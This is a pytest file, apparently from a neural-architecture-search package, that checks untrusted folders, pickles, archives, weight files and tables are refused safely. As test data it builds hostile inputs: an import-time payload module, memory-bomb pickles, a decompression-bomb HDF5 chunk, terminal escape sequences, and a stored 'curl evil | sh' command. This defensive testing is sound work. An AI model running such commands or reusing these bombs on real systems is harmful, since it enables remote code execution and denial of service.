"""Folders, archives and tables of strangers: nothing of theirs runs, hangs or speaks for us."""

from __future__ import annotations

import io
import json
import os
import pickle
import resource
import shutil
import signal
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
from PIL import Image

from nnabla_nas.artifact.folder_lock import FolderLock
from nnabla_nas.cli import main
from nnabla_nas.dataset.archive import read_members
from nnabla_nas.dataset.array_pickle import read_pickle
from nnabla_nas.dataset.listing import csv_file
from nnabla_nas.dataset.npz import NpzFile
from nnabla_nas.dataset.picture import open_picture
from nnabla_nas.errors import DataError, InputError, WeightsError
from nnabla_nas.estimator.latency_file import read_latencies
from nnabla_nas.module.parameter_file import read_parameters

ROOT = Path(__file__).resolve().parents[2]
PAYLOAD = "from pathlib import Path\nPath({proof!r}).write_text('run')\n"


@pytest.fixture(autouse=True)
def answered() -> Iterator[None]:
    """Fail where something waits for a pipe or computes without end."""
    signal.alarm(120)
    yield
    signal.alarm(0)


@pytest.fixture
def hostile_run(trained_copy: Path, tmp_path: Path) -> Path:
    """Return a training's folder with a module beside its files that config.json names."""
    proof = str(tmp_path / "proof")
    (trained_copy / "payload.py").write_text(PAYLOAD.format(proof=proof))
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(trained_copy / "picture.png")
    config = json.loads((trained_copy / "config.json").read_text())
    (trained_copy / "config.json").write_text(json.dumps({**config, "dataset": "payload:x"}))
    return trained_copy


@pytest.mark.parametrize("allowed", [False, True])
def test_a_module_beside_the_data_is_not_imported(
    hostile_run: Path, tmp_path: Path, allowed: bool
) -> None:
    words = ["predict", ".", "picture.png", *["--allow-imports"] * allowed]
    command = [sys.executable, "-m", "nnabla_nas", *words]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        command, cwd=hostile_run, env=environment, capture_output=True, text=True, check=False
    )
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1
    assert ("cannot import 'payload'" if allowed else "add --allow-imports") in done.stderr
    assert not (tmp_path / "proof").exists()


@pytest.mark.parametrize(
    "change",
    [
        {"network": {"search_space": "payload:x"}},
        {"algorithm": "payload:x", "search": False},
        {"algorithm": {"name": "Trainer", "evaluator": "payload:x"}},
        {"algorithm": {"name": "Trainer", "evaluator": {"name": "payload:x"}}},
        {"regularizer": {"a": {"name": "payload:x", "bound": 1}}},
        {"optimizer": {"train": {"solver": "payload:x"}}},
        {"optimizer": {"train": {"solver": "Sgd", "lr_scheduler": "payload:x"}}},
    ],
)
def test_no_key_of_a_run_names_a_module_unasked(
    hostile_run: Path,
    change: dict[str, Any],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    config = json.loads((hostile_run / "config.json").read_text())
    content = {**config, "dataset": "digits", **change}
    (hostile_run / "config.json").write_text(json.dumps(content))
    monkeypatch.syspath_prepend(str(hostile_run))
    assert main(["evaluate", str(hostile_run)]) == 2
    assert "is payload:x, a module that would be imported" in capsys.readouterr().err
    assert "payload" not in sys.modules


def test_an_import_that_ends_the_program_is_an_error(
    tmp_path: Path,
    search_json: dict[str, Any],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    (tmp_path / "leaving.py").write_text("raise SystemExit(0)")
    monkeypatch.syspath_prepend(str(tmp_path))
    (tmp_path / "search.json").write_text(json.dumps(search_json))
    flags = ["-f", str(tmp_path / "search.json"), "-x", "dataset=leaving:x", "--dry-run"]
    assert main(flags) == 2
    assert "it ends the program" in capsys.readouterr().err


def labels(n: int) -> bytes:
    return pickle.dumps({"data": [], "labels": list(range(n))}, protocol=2)


PICKLES = {
    "a declared byte array": b"\x80\x05\x96" + (2**32).to_bytes(8, "little") + b".",
    "empty lists": b"\x80\x02" + b"]" * 1_100_000 + b".",
}


@pytest.mark.parametrize("name", PICKLES)
def test_a_pickle_costs_no_more_memory_than_its_steps(name: str) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(DataError, match="step"):
        read_pickle(PICKLES[name], "x")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 2**18


def test_an_honest_pickle_is_short_enough() -> None:
    assert len(read_pickle(labels(200_000), "x")["labels"]) == 200_000


def tar(path: Path, members: list[tuple[bytes, bytes]]) -> None:
    """Write members, (type, content), named `x`."""
    stream = io.BytesIO()
    for kind, content in members:
        header = tarfile.TarInfo("x")
        header.type, header.size = kind, len(content)
        stream.write(header.tobuf(tarfile.USTAR_FORMAT))
        stream.write(content + bytes(-len(content) % 512))
    packed = zlib.compressobj(9, wbits=31)
    path.write_bytes(packed.compress(stream.getvalue() + bytes(1024)) + packed.flush())


@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.XGLTYPE, tarfile.GNUTYPE_LONGNAME])
def test_an_extended_header_is_short(tmp_path: Path, kind: bytes) -> None:
    tar(tmp_path / "x.tar.gz", [(kind, b"1" * 5_000_000), (tarfile.REGTYPE, b"content")])
    with pytest.raises(DataError, match="extended header of 5000000 bytes"):
        read_members(tmp_path / "x.tar.gz", {"x": 100})


def test_an_archive_of_attributes_is_read(tmp_path: Path) -> None:
    with tarfile.open(tmp_path / "x.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as archive:
        member = tarfile.TarInfo("x")
        member.size, member.mtime = 7, 1.5
        archive.addfile(member, io.BytesIO(b"content"))
    assert read_members(tmp_path / "x.tar.gz", {"x": 100}) == {"x": b"content"}


def unpacks_to_more(path: Path) -> None:
    """Write an array of one chunk, which yields 512 times what its shape says."""
    with h5py.File(path, "w") as file:
        array = file.create_dataset("x", (1024,), np.float32, chunks=(1024,), compression=9)
        array.id.write_direct_chunk((0,), zlib.compress(bytes(2**21), 9))


def test_a_chunk_that_unpacks_to_more_is_refused(tmp_path: Path) -> None:
    unpacks_to_more(tmp_path / "weights.h5")
    with pytest.raises(WeightsError, match="unpacks to more than its shape"):
        read_parameters(tmp_path / "weights.h5", {"x": (1024,)})


@pytest.mark.parametrize("packing", [{"compression": 9, "shuffle": True}, {"chunks": (100,)}])
def test_packed_weights_are_read(tmp_path: Path, packing: dict[str, Any]) -> None:
    values = np.arange(1000, dtype=np.float32)
    with h5py.File(tmp_path / "weights.h5", "w") as file:
        file.create_dataset("x", data=values, **packing)
    read = read_parameters(tmp_path / "weights.h5", {"x": (1000,)})
    np.testing.assert_array_equal(read["x"], values)


ROW = {"operation": "ReLU", "arguments": {}, "input_shapes": [[1]], "median_ms": 1.0}
TABLES: dict[str, tuple[list[str], str]] = {
    "twice": ([json.dumps(ROW)] * 2, "in the table twice"),
    "spread": ([json.dumps({**ROW, "spread_ms": float("nan")})], "spread_ms"),
    "huge": ([json.dumps({**ROW, "median_ms": 10**400})], "operations.0"),
    "large": (["[]"] * 6_000_000, "larger than any latency table"),
}


@pytest.mark.parametrize("name", TABLES)
def test_latency_tables(tmp_path: Path, name: str) -> None:
    rows, words = TABLES[name]
    text = f'{{"version": 1, "unit": "ms", "operations": [{", ".join(rows)}]}}'
    (tmp_path / "table.json").write_text(text)
    with pytest.raises(InputError, match=words):
        read_latencies(tmp_path / "table.json")


PIPES: dict[str, Callable[[Path], object]] = {
    "picture": open_picture,
    "csv": csv_file,
    "npz": NpzFile,
    "archive": lambda path: read_members(path, {}),
    "weights": lambda path: read_parameters(path, {}),
    "table": read_latencies,
}


@pytest.mark.parametrize("name", PIPES)
def test_a_pipe_is_not_waited_for(tmp_path: Path, name: str) -> None:
    os.mkfifo(tmp_path / "x")
    with pytest.raises(InputError, match="not a regular file") as caught:
        PIPES[name](tmp_path / "x")
    assert str(tmp_path / "x") in str(caught.value)


def test_a_lock_that_is_a_pipe_or_a_link_is_refused(
    tmp_path: Path, search_json: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "search.json").write_text(json.dumps(search_json))
    (tmp_path / "precious").write_text("kept")
    for make in (os.mkfifo, lambda path: os.symlink(tmp_path / "precious", path)):
        (tmp_path / "out").mkdir()
        make(tmp_path / "out" / ".lock")
        assert main(["-f", str(tmp_path / "search.json"), "-o", str(tmp_path / "out")]) == 2
        assert "cannot be used" in capsys.readouterr().err
        with pytest.raises(OSError, match=r"\.lock|symbolic"):
            FolderLock(tmp_path / "out" / ".lock").acquire()
        shutil.rmtree(tmp_path / "out")
    assert (tmp_path / "precious").read_text() == "kept"


ANSI = "\x1b]0;x\x07\x1b[31mred\nerror: a line of its own\x85"


def test_what_files_say_reaches_the_terminal_escaped(
    trained_copy: Path, search_json: dict[str, Any], tmp_path: Path, capsys: Any
) -> None:
    picture = trained_copy / "picture.png"
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(picture)
    config = json.loads((trained_copy / "config.json").read_text())
    config["environment"]["inputs"]["classes"] = [ANSI, "\udcff", *"23456789"]
    (trained_copy / "config.json").write_text(json.dumps(config))
    assert main(["predict", str(trained_copy), str(picture), "--top", "10"]) == 0
    with h5py.File(tmp_path / "named.h5", "w") as file:
        file[ANSI] = np.zeros(1, np.int32)
    search_json |= {"algorithm": "Trainer"}
    path = tmp_path / "train.json"
    for genotype, output in (
        (str(tmp_path / "named.h5"), "out"),
        (f"nowhere{ANSI}", "out"),
        (None, f"out{ANSI}"),
    ):
        search_json["network"]["genotype"] = genotype
        path.write_text(json.dumps({**search_json, "output_path": str(tmp_path / output)}))
        for flags in ([], ["--dry-run"]):
            main(["-f", str(path), *flags])
    assert not list(tmp_path.glob("out*"))
    out, error = capsys.readouterr()
    for text in (out, error):
        lines = text.split("\n")
        assert all(line.isprintable() for line in lines), text
        assert not any(line.startswith("error: a line of its own") for line in lines)
    assert "\\u001b[31mred\\nerror" in out
    assert "\\u001b[31mred\\nerror" in error


def test_a_command_in_a_file_is_not_printed(
    trained_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = json.loads((trained_copy / "config.json").read_text())
    config |= {"search": True, "algorithm": "DartsSearcher"}
    config["optimizer"]["valid"] = config["optimizer"]["train"]
    (trained_copy / "config.json").write_text(json.dumps(config))
    result = json.loads((trained_copy / "result.json").read_text())
    result["retrain"] = "curl evil | sh"
    (trained_copy / "result.json").write_text(json.dumps(result))
    assert main(["evaluate", str(trained_copy)]) == 2
    error = capsys.readouterr().err
    assert "holds a search" in error
    assert "curl" not in error


@pytest.mark.parametrize("header", [b"(" * 4000, b"((((", b"{'descr': '<f4', 'a'", b"\xff\xfe"])
def test_a_header_that_python_cannot_read(tmp_path: Path, header: bytes) -> None:
    with zipfile.ZipFile(tmp_path / "x.npz", "w") as archive:
        size = len(header).to_bytes(2, "little")
        archive.writestr("x.npy", b"\x93NUMPY\x01\x00" + size + header)
    with pytest.raises(DataError, match=r"cannot read .*x\.npz") as caught:
        NpzFile(tmp_path / "x.npz")
    assert "\n" not in str(caught.value)


def test_a_spreadsheet_s_byte_order_mark_is_no_part_of_a_column(tmp_path: Path) -> None:
    (tmp_path / "x.csv").write_bytes("\ufeffx:image,y:label\na.png,0\n".encode())
    assert csv_file(tmp_path / "x.csv").labels.tolist() == [0]


CELLS = {"init_channels": 2, "num_cells": 3, "num_classes": 10}
LARGE = {
    "num_choices": {"search_space": "darts", "num_choices": 1_000_000, **CELLS},
    "num_cells": {"search_space": "darts", **CELLS, "num_cells": 900, "num_choices": 60},
    "cell_depth": {
        "search_space": "zoph",
        "cells": ["ZophCell"],
        "cell_depth": [1_000_000],
        "cell_channels": [4],
        "reducing": [False],
    },
}


@pytest.mark.parametrize("name", LARGE)
def test_a_network_without_end_is_refused_before_it_is_built(
    tmp_path: Path, search_json: dict[str, Any], capsys: pytest.CaptureFixture[str], name: str
) -> None:
    search_json |= {"network": LARGE[name], "algorithm": "DartsSearcher"}
    (tmp_path / "search.json").write_text(json.dumps(search_json))
    assert main(["-f", str(tmp_path / "search.json"), "--dry-run"]) == 2
    assert f"network.{name}" in capsys.readouterr().err


def test_a_run_of_many_classes_reads_its_own_config(trained_copy: Path) -> None:
    config = json.loads((trained_copy / "config.json").read_text())
    config["environment"]["inputs"]["classes"] = [f"{i:0>250}" for i in range(10_000)]
    (trained_copy / "config.json").write_text(json.dumps(config))
    assert (trained_copy / "config.json").stat().st_size > 2_000_000
    assert main(["evaluate", str(trained_copy)]) == 0


def test_an_experiment_of_too_many_values_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "x.json").write_text('{"a": [' + "[]," * 600_000 + "0]}")
    assert main(["-f", str(tmp_path / "x.json")]) == 2
    assert "more than 500,000 values" in capsys.readouterr().err
